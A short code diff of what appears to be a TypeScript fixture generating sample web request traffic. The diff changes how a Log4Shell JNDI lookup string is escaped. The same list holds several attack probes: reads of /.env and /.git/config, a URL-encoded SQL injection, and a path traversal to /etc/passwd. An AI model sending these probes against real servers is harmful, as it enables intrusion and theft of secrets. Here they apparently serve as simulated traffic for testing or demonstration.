@@ -1328,7 +1328,7 @@ export const SEQUENCES: Readonly<Record<string, Sequence>> = {
             '/.env',
             '/a?id=1%27%20or%20%271%27=%271',
             '/.git/config',
-            '/?x=${jndi:ldap://x}',
+            `/?x=$${'{jndi:ldap://x}'}`,
             '/a.php?p=../../etc/passwd',
           ][n % 5] ?? '/',
           '198.51.100.7',
